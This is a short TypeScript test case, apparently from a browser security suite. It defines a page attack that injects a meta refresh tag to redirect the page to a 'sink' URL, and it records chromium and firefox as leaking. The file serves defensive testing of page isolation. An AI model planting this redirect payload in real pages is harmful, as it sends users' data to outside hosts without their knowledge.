import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a page that sends itself on",
  script: `
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = "0; url=" + sink;
    document.head.append(meta);
    await new Promise((later) => setTimeout(later, 500));
  `,
  plainLeak: ["chromium", "firefox"],
};
